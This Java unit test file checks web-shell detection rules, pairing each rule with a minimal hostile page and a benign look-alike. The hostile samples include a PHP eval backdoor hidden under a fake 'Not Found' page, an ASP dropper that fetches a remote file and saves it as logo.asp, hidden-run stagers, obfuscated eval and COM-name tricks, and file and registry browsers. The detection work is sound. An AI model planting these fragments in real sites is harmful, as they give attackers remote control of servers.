package org.exhunt.hunt.sweep;

import static org.assertj.core.api.Assertions.assertThat;
import static org.exhunt.hunt.sweep.BuiltinRuleScanner.rulesMatching;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The rules for shell families the first rule set missed (reconnaissance panels, stagers, stub
 * pages of compiled shells, hidden object names, scripts handed to other engines), each against a
 * minimal page using the technique and against the nearest page an application would have: the
 * same API or shape, used the way applications use it.
 */
class ShellFamilyRulesTest {

    private static final String CS_PAGE = "<%@ Page Language=\"C#\" %>\r\n";

    static Stream<Arguments> families() {
        return Stream.of(
                Arguments.of("exhunt_recon_registry_hive_browser",
                        CS_PAGE + "<script runat=\"server\">void Page_Load(){ foreach (RegistryKey root in new[] { Registry.LocalMachine, "
                                + "Registry.ClassesRoot, Registry.CurrentUser, Registry.Users, Registry.CurrentConfig }) "
                                + "{ RegistryKey k = root.OpenSubKey(Request[\"key\"]); foreach (string n in k.GetSubKeyNames()) Response.Write(n); } }</script>",
                        CS_PAGE + "<script runat=\"server\">void Page_Load(){ RegistryKey k = Registry.LocalMachine.OpenSubKey(@\"SOFTWARE\\Contoso\\Portal\"); "
                                + "foreach (string n in k.GetValueNames()) settings.Items.Add(n); }</script>"),
                Arguments.of("exhunt_recon_raw_socket_sniffer",
                        CS_PAGE + "<script runat=\"server\">void Start(){ Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); "
                                + "s.Bind(new IPEndPoint(IPAddress.Parse(ip.Text), 0)); s.IOControl(IOControlCode.ReceiveAll, new byte[] {1,0,0,0}, new byte[4]); }</script>",
                        CS_PAGE + "<script runat=\"server\">void Ping(){ Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Icmp); "
                                + "s.SendTo(echoRequest, new IPEndPoint(IPAddress.Parse(\"10.0.0.1\"), 0)); }</script>"),
                Arguments.of("exhunt_recon_writable_folder_probe",
                        "<% Sub Probe(p)\r\n On Error Resume Next\r\n fso.CreateTextFile(p & \"\\~w.tmp\")\r\n"
                                + " If Err.Number = 0 Then Response.Write p & \" writable<br>\" : fso.DeleteFile(p & \"\\~w.tmp\")\r\n Err.Clear\r\n"
                                + " For Each f In fso.GetFolder(p).SubFolders : Probe(f.Path) : Next\r\nEnd Sub\r\nProbe Request(\"root\") %>",
                        "<% Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\r\n dataDir = Server.MapPath(\"App_Data\")\r\n"
                                + " On Error Resume Next\r\n fso.CreateTextFile(dataDir & \"\\setup.tmp\")\r\n"
                                + " If Err.Number <> 0 Then Response.Write \"Please let the site write to App_Data.\"\r\n"
                                + " fso.DeleteFile(dataDir & \"\\setup.tmp\") %>"),
                Arguments.of("exhunt_recon_writable_folder_probe",
                        CS_PAGE + "<script runat=\"server\">void Page_Load(){ foreach (string d in Environment.GetLogicalDrives()) { "
                                + "try { File.Create(d + \"\\\\probe\").Close(); Response.Write(d + \" writable<br/>\"); File.Delete(d + \"\\\\probe\"); } catch {} } }</script>",
                        CS_PAGE + "<script runat=\"server\">void Page_Load(){ string dir = Server.MapPath(\"~/App_Data\"); "
                                + "try { File.Create(dir + \"\\\\probe\").Close(); File.Delete(dir + \"\\\\probe\"); ok.Visible = true; } catch { fix.Visible = true; } }</script>"),
                Arguments.of("exhunt_recon_drive_browser",
                        CS_PAGE + "<script runat=\"server\">void Page_Load(){ string dir = Request.Params[\"dir\"]; string file = Request.Params[\"file\"]; "
                                + "foreach (string d in Environment.GetLogicalDrives()) Response.Write(d); "
                                + "if (file != null) { Response.WriteFile(file); return; } "
                                + "foreach (DirectoryInfo sub in new DirectoryInfo(dir).GetDirectories()) Response.Write(sub.FullName); }</script>",
                        CS_PAGE + "<script runat=\"server\">void Page_Load(){ string name = Request.QueryString[\"name\"]; string lang = Request.QueryString[\"lang\"]; "
                                + "string root = Server.MapPath(\"~/downloads/\" + lang); "
                                + "foreach (FileInfo f in new DirectoryInfo(root).GetFiles()) list.Items.Add(f.Name); "
                                + "if (name != null) Response.TransmitFile(Path.Combine(root, Path.GetFileName(name))); }</script>"),
                Arguments.of("exhunt_stager_executable_from_char_codes",
                        "<% b = Chr(77)&Chr(90)&Chr(144)&Chr(0)&Chr(3)&Chr(0)\r\n"
                                + "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"c:\\windows\\temp\\u.exe\", True)\r\nf.Write b : f.Close %>",
                        "<% crlf = Chr(13)&Chr(10)\r\nSet f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"export.csv\"), True)\r\n"
                                + "f.Write \"name;email\" & crlf : f.Close %>"),
                Arguments.of("exhunt_stager_writes_script_and_runs_it_hidden",
                        "<% Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\nSet t = fso.CreateTextFile(\"c:\\windows\\temp\\u.vbs\", True)\r\n"
                                + "t.WriteLine \"CreateObject(\"\"WScript.Shell\"\").Run \"\"c:\\windows\\temp\\a.exe\"\"\" : t.Close\r\n"
                                + "CreateObject(\"WScript.Shell\").Run \"wscript c:\\windows\\temp\\u.vbs\", 0, False %>",
                        "<% Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\nSet t = fso.CreateTextFile(\"c:\\reports\\daily.txt\", True)\r\n"
                                + "t.WriteLine Now() : t.Close\r\nCreateObject(\"WScript.Shell\").Run \"c:\\tools\\rotate.bat\", 1, True %>"),
                Arguments.of("exhunt_asp_com_name_assembled_from_pieces",
                        "<% Set o = Server.CreateObject(\"scr\"&\"ipting.\"&\"FileSystem\"&\"Object\") %>",
                        "<% Set http = Server.CreateObject(\"MSXML2.ServerXMLHTTP.\" & msxmlVersion) %>"),
                Arguments.of("exhunt_asp_com_name_assembled_from_pieces",
                        "<% Set o = CreateObject(\"WScr\" & Chr(105) & \"pt.Shell\") %>",
                        "<% Set conn = CreateObject(\"ADODB.Connection\") : conn.Open \"DSN=\" & dsnName & \";\" %>"),
                Arguments.of("exhunt_asp_intrinsics_handed_to_script_host",
                        "<% Set sc = Server.CreateObject(engineName)\r\nsc.Language = \"VBScript\"\r\nsc.AddObject \"Request\", Request\r\n"
                                + "sc.AddObject \"Response\", Response\r\nsc.ExecuteStatement \"Execute Request(\"\"k\"\")\" %>",
                        "<% Set sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\r\nsc.Language = \"VBScript\"\r\n"
                                + "sc.AddObject \"Response\", Response\r\nsc.ExecuteStatement \"Response.Write 1 + 1\" %>"),
                Arguments.of("exhunt_asp_intrinsics_handed_to_script_host",
                        "<% Set e = Server.CreateObject(\"Vendor.Decoder\")\r\ne.Feed \"a1b2c3\"\r\n"
                                + "e.RunIt \"LANGUAGE=VBSCRIPT\", Application, Request, Response, Server, Session %>",
                        "<% Set cart = Server.CreateObject(\"Shop.Cart\")\r\ncart.Init Request, Response, Server, Session\r\ncart.Render %>"),
                Arguments.of("exhunt_asp_fso_writes_request_data",
                        "<% Set fs = CreateObject(objName)\r\nSet f = fs.CreateTextFile(Request(\"p\"), True)\r\nf.Write Request(\"d\") : f.Close %>",
                        "<% Set fs = CreateObject(objName)\r\nSet f = fs.OpenTextFile(Server.MapPath(\"guestbook.txt\"), 8, True)\r\n"
                                + "f.Write Server.HTMLEncode(Request(\"msg\")) : f.Close %>"),
                Arguments.of("exhunt_asp_remote_file_dropper",
                        "<% Set h = CreateObject(\"Microsoft.XMLHTTP\") : h.Open \"GET\", \"http://198.51.100.7/a.txt\", False : h.Send\r\n"
                                + "Set s = CreateObject(\"ADODB.Stream\") : s.Type = 1 : s.Open : s.Write h.responseBody\r\n"
                                + "s.SaveToFile \"d:\\www\\images\\logo.asp\", 2 %>",
                        "<% Set h = CreateObject(\"Microsoft.XMLHTTP\") : h.Open \"GET\", \"https://rates.example.org/eur.xml\", False : h.Send\r\n"
                                + "Set s = CreateObject(\"ADODB.Stream\") : s.Type = 1 : s.Open : s.Write h.responseBody\r\n"
                                + "s.SaveToFile \"d:\\www\\cache\\eur.xml\", 2 %>"),
                Arguments.of("exhunt_aspnet_stub_page_instantiates_compiled_shell",
                        "<script language=\"C#\" runat=\"server\">\r\nAcme.Tools.Agent a = new Acme.Tools.Agent(\"0f1e2d3c4b5a6978\");\r\n</script>",
                        "<script language=\"C#\" runat=\"server\">\r\nSystem.Guid pageId = new System.Guid(\"3f2504e0-4f89-11d3-9a0c-0305e82c3301\");\r\n</script>"),
                Arguments.of("exhunt_aspnet_writes_page_next_to_itself",
                        "<script runat=\"server\">void Go(object s, EventArgs e){ System.IO.File.WriteAllText(Request.PhysicalPath + \".aspx\", body.Text); }</script>",
                        "<script runat=\"server\">void Go(object s, EventArgs e){ System.IO.File.AppendAllText(Request.PhysicalPath + \".log\", DateTime.Now + \"\\r\\n\"); }</script>"),
                Arguments.of("exhunt_aspnet_sql_console_from_request_values",
                        CS_PAGE + "<% string c = Request.QueryString[\"c\"]; string q = Request.QueryString[\"q\"];\r\n"
                                + "using (SqlConnection conn = new SqlConnection(c)) { SqlCommand cmd = new SqlCommand(q, conn); conn.Open(); "
                                + "SqlDataReader r = cmd.ExecuteReader(); while (r.Read()) Response.Write(r[0]); } %>",
                        CS_PAGE + "<% string cs = ConfigurationManager.ConnectionStrings[\"Shop\"].ConnectionString; string id = Request.QueryString[\"id\"]; "
                                + "string sort = Request.QueryString[\"sort\"];\r\nusing (SqlConnection conn = new SqlConnection(cs)) { "
                                + "SqlCommand cmd = new SqlCommand(sql, conn); cmd.Parameters.AddWithValue(\"@id\", id); conn.Open(); "
                                + "SqlDataReader r = cmd.ExecuteReader(); grid.DataSource = r; grid.DataBind(); } %>"),
                Arguments.of("exhunt_multi_tool_database_client_to_any_server",
                        CS_PAGE + "<script runat=\"server\">void Connect(){ SqlConnection c = new SqlConnection();\r\n"
                                + "  c.ConnectionString = \"Data source=\" + txtServer.Text +\r\n      \";User id=\" + txtUser.Text +\r\n"
                                + "      \";Password=\" + txtPass.Text; c.Open(); }</script>",
                        CS_PAGE + "<script runat=\"server\">void Connect(){ SqlConnection c = new SqlConnection();\r\n"
                                + "  c.ConnectionString = \"Data source=db01;User id=portal;Password=\" +\r\n      secrets.Get(\"portal\"); c.Open(); }</script>"),
                Arguments.of("exhunt_multi_tool_database_client_to_any_server",
                        CS_PAGE + "<script runat=\"server\">MySqlConnection conn = new MySqlConnection(); void Connect(){ "
                                + "conn.ConnectionString = string.Format(\"Host = {0}; UserName = {1}; Password = {2}; Database = {3}\", "
                                + "Session[\"h\"], Session[\"u\"], Session[\"p\"], Session[\"d\"]); conn.Open(); }</script>",
                        CS_PAGE + "<script runat=\"server\">MySqlConnection conn = new MySqlConnection(); void Connect(){ "
                                + "conn.ConnectionString = string.Format(\"Host = db01; Database = {0}; Integrated Security = true\", tenant); conn.Open(); }</script>"),
                Arguments.of("exhunt_chopper_php_evaluates_request",
                        "<html><body><h1>Not Found</h1></body></html>\r\n<?php @eval($_POST['k']); ?>",
                        "<?php echo htmlspecialchars($_POST['name']); $t = preg_replace('/\\s+/', ' ', $_POST['text']); ?>"),
                Arguments.of("exhunt_chopper_php_evaluates_request",
                        "<?php @preg_replace(\"/.*/e\", $_REQUEST['k'], \"\"); ?>",
                        "<?php $slug = preg_replace(\"/[^a-z0-9]+/i\", '-', $_GET['title']); ?>"),
                Arguments.of("exhunt_recon_asp_prints_run_as_account",
                        "<% Set net = Server.CreateObject(\"WScript.Network\") %><pre><%= net.ComputerName & \"\\\" & net.UserName %></pre>",
                        "<p>Signed in as <%= Request.ServerVariables(\"LOGON_USER\") %>, served by <%= net.ComputerName %></p>"),
                Arguments.of("exhunt_obfuscated_asp_reversed_text_decoder",
                        "<%\r\nFunction Dec(s)\r\nFor i = 1 To Len(s)\r\nIf Mid(s, i, 1) <> \"~\" Then\r\nt = Mid(s, i, 1) & t\r\nElse\r\n"
                                + "t = vbCrLf & t\r\nEnd If\r\nNext\r\nDec = t\r\nEnd Function\r\n%>",
                        "<%\r\nFunction Mirror(s)\r\nFor i = 1 To Len(s)\r\nr = Mid(s, i, 1) & r\r\nNext\r\nr = r & vbCrLf\r\nMirror = r\r\nEnd Function\r\n%>"),
                Arguments.of("exhunt_obfuscated_asp_execute_decoded_text",
                        "<% Execute(Unhex(payload)) %>",
                        "<p>Execute Disable (XD) keeps data pages from running.</p><script>var r = executeBound(sourceFunc, this);</script>"),
                Arguments.of("exhunt_obfuscated_jscript_eval_split_by_comments",
                        "<%@ Page Language=\"Jscript\" %><% var/**/k/**/=/**/\"Req\"/**/+/**/\"uest\"/**/;"
                                + "eval/**/(Request.Item[\"z\"],/**/\"unsafe\"); %>",
                        "<%@ Page Language=\"JScript\" %><%\r\n/* read the settings */\r\nvar cfg = eval(\"(\" + json + \")\");\r\n/* show them */\r\n"
                                + "Response.Write(cfg.title); /* done */\r\n%>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("families")
    void familyTechniqueIsFoundAndItsBenignNeighbourIsNot(String rule, String technique, String neighbour) {
        assertThat(rulesMatching(technique)).as("rules matching the technique").contains(rule);
        assertThat(rulesMatching(neighbour)).as("rules matching the benign neighbour").doesNotContain(rule);
    }
}
